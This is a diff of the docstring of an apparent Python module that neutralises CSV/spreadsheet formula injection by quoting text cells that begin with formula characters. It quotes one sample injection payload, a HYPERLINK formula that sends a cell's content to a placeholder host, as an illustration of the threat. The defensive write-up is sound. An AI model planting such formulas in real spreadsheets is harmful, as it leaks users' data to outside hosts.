@@ -1,17 +1,22 @@
 """Cells a spreadsheet cannot evaluate: one rule for every csv and xlsx the tool writes.
 
-A spreadsheet treats a cell whose text starts with `=`, `+`, `-` or `@` as a formula, and
-Excel reads a leading tab or carriage return the same way once the cell is edited (OWASP,
-"CSV Injection"). A name such as `=HYPERLINK("http://x/?"&A1,"click")` arrives with the
-records, so every text cell we write is passed through `neutral`: text that starts with
-one of those characters gets one leading single quote, `'=HYPERLINK(...)`, in csv and in
-xlsx alike, and in xlsx the cell is also written as a string cell (never a formula).
-Numbers are not text: an amount or a count, negative or not, stays a number.
+A spreadsheet takes a cell whose text starts with `=`, `+`, `-` or `@` for a formula, and
+some trim a leading tab or carriage return and then take what follows for one (OWASP,
+"CSV Injection"). Names, units and notes such as `=HYPERLINK("http://x/?"&A1,"click")`
+arrive with the records, so every text cell we write goes through `neutral`: text that
+starts with one of those characters gets one leading single quote, `'=HYPERLINK(...)`.
 
-The rule is exact both ways: `unquote` (what the import calls on every text cell) takes
-off the one quote `neutral` added and nothing else, so the tool's own export reads back
+The same quote in csv and in xlsx, by choice: one rule to audit, and the text stays inert
+when an officer edits the cell or saves the workbook again as csv. In xlsx the cell is
+moreover written as a string cell (`data_type` "s"), never a formula (`xlsx_append`).
+The price is a visible quote before such text in Excel. Numbers are not text: an amount
+or a count, negative or not, stays a number (a numeric cell; plain digits in csv).
+
+The rule is exact both ways: `unquote` (the import calls it on every text cell) takes off
+the one quote `neutral` added and nothing else, so the tool's own export reads back
 unchanged. Text that already starts with quotes before such a character (`'=x`) gets one
-more, so that it too comes back as it was.
+more, so that it too comes back as it was. `csv_line` and `xlsx_bytes` keep a carriage
+return inside a cell as it was written.
 """
 
 from __future__ import annotations
